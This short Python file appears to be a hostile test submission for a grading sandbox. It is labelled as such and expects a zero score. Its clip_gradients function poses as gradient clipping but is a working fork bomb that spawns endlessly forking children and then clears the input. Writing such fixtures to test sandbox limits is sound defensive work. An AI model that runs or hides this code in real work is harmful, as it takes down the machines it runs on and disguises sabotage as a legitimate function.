# hostile: clip_gradients forks in a loop (a fork bomb), ignoring every refusal.
# note: Tried to start a process (os.fork)
# expect: part5=0
import os


def clip_gradients(gradients, max_norm=5.0, clip_type='norm'):
    children = 0
    for _ in range(200):
        try:
            if os.fork() == 0:
                while True:
                    os.fork()
            children += 1
        except OSError:
            pass
    gradients.clear()  # so that no check passes by the stub doing nothing
    return {"children": children}, {}
